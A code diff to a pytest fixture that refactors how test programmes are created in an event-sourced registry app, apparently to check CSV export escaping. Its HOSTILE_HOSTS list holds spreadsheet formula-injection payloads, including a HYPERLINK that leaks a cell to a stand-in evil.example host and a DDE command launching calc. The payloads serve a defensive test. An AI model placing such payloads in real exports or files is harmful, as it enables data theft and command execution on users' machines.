@@ -17,12 +17,12 @@ import pytest
 from freezegun import freeze_time
 
 from aggregates.application import RegistryApp
+from aggregates.programme import Programme, host_unit
 from aggregates.store import StoreConfig
 from projections import queries as Q
 from projections.csv_cells import csv_cell
 from projections.db import make_engine
 from projections.runner import ReadModelRunner
-from projections.synthetic import Programme
 
 HOSTILE_HOSTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1,2)"]
@@ -36,9 +36,8 @@ def ledger_csv(tmp_path: Path) -> str:
         app = RegistryApp(StoreConfig(f"sqlite:///{tmp_path / 'events.sqlite3'}"))
         prog = Programme(app)
         for i, host in enumerate(HOSTILE_HOSTS):
-            pid = prog.apply(f"平台{i}", ("智能芯片", "智能传感器", "智能算力", "智慧金融")[i], host)
-            prog.review(pid)
-            prog.approve(pid)
+            prog.to("approved", subfield=("智能芯片", "智能传感器", "智能算力", "智慧金融")[i], name=f"平台{i}",
+                    host_unit=host_unit(host))
     engine = make_engine(app.store)
     ReadModelRunner(app, engine).catch_up()
     with engine.connect() as conn:
